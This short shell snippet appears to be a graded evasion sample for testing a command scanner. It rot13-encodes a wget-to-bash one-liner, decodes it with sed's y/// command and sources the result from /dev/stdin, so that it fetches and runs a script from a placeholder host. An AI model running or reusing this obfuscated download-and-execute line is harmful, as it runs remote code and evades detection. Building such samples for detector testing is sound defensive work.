# evasion: rot13 decoded by sed's y/// command (not tr) and sourced from /dev/stdin
# grade: hard; does: download-exec
rot() { sed 'y/abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ/nopqrstuvwxyzabcdefghijklmNOPQRSTUVWXYZABCDEFGHIJKLM/'; }
echo 'jtrg -dB- uggc://203.0.113.46/vafgnyy.fu | onfu' | rot | source /dev/stdin
